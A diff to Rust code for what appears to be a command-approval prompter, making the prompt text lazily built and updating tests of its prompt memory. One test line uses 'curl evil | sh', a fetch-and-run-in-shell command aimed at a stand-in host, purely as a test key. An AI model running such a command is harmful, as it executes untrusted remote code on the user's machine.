@@ -123,17 +123,22 @@ impl Prompter {
     /// Asks with the best available means. `Unavailable` only if there is
     /// no way to ask at all; a desktop prompt that failed falls back to
     /// askpass, and if there is none the answer is `Failed` (a denial).
-    pub async fn ask(&self, text: &PromptText, timeout: Duration) -> Answer {
+    /// The text is made only when there is someone to show it to.
+    pub async fn ask(&self, text: impl FnOnce() -> PromptText, timeout: Duration) -> Answer {
         let mut why = self.no_notifications.clone().unwrap_or_default();
         let mut failed = None;
-        if let Some(notifications) = &self.notifications {
+        let text = match (&self.notifications, &self.askpass) {
+            (None, None) => None,
+            _ => Some(text()),
+        };
+        if let (Some(notifications), Some(text)) = (&self.notifications, &text) {
             match notifications.ask(text, timeout).await {
                 Answer::Unavailable(reason) => why = reason,
                 Answer::Failed(reason) => failed = Some(reason),
                 answer => return answer,
             }
         }
-        if let Some(askpass) = &self.askpass {
+        if let (Some(askpass), Some(text)) = (&self.askpass, &text) {
             return askpass.confirm(text, timeout).await;
         }
         match failed {
@@ -189,7 +194,7 @@ pub fn prompt_test(timeout: Duration) -> anyhow::Result<std::process::ExitCode> 
             remember_label: "10m".into(),
         };
         println!("asking (waiting up to {})…", humantime::format_duration(timeout));
-        let answer = prompter.ask(&text, timeout).await;
+        let answer = prompter.ask(|| text, timeout).await;
         println!("answer: {}", answer.describe());
         Ok(if answer.allows() {
             std::process::ExitCode::SUCCESS
@@ -318,7 +323,7 @@ impl PromptMemory {
         &self,
         prompter: &Prompter,
         key: AskKey,
-        text: &PromptText,
+        text: impl FnOnce(&AskKey) -> PromptText,
         times: PromptTimes,
     ) -> Asked {
         self.prune();
@@ -376,7 +381,7 @@ impl PromptMemory {
             Err(sender) => sender,
         };
         let guard = OpenGuard { memory: self, key };
-        let answer = prompter.ask(text, times.timeout).await;
+        let answer = prompter.ask(|| text(&guard.key), times.timeout).await;
         match &answer {
             Answer::AllowRemember => {
                 self.remembered
@@ -491,7 +496,7 @@ mod tests {
         crate::test_support::runtime().block_on(memory.ask(
             &Prompter::none(),
             key,
-            &text(),
+            |_| text(),
             times(),
         ))
     }
@@ -502,7 +507,7 @@ mod tests {
             let memory = PromptMemory::default();
             let prompter = Prompter::none();
             let asked = memory
-                .ask(&prompter, key("exec", "ls", 1), &text(), times())
+                .ask(&prompter, key("exec", "ls", 1), |_| text(), times())
                 .await;
             assert!(matches!(
                 asked,
@@ -514,7 +519,7 @@ mod tests {
             assert!(memory.remembered().is_empty());
             // Unavailable is not a refusal by the person: no cool-down.
             let again = memory
-                .ask(&prompter, key("exec", "ls", 1), &text(), times())
+                .ask(&prompter, key("exec", "ls", 1), |_| text(), times())
                 .await;
             assert!(matches!(again, Asked::Prompted { .. }));
             // And nothing is left open.
@@ -580,7 +585,7 @@ mod tests {
             open.by_requester.insert(requester(1), key("exec", "ls", 1));
         }
         let ask =
-            |key: AskKey| runtime.block_on(memory.ask(&Prompter::none(), key, &text(), times()));
+            |key: AskKey| runtime.block_on(memory.ask(&Prompter::none(), key, |_| text(), times()));
         // A different command from the same requester does not join it.
         assert_eq!(ask(key("exec", "curl evil | sh", 1)), Asked::Busy);
         // The same command from another shell gets a prompt of its own.
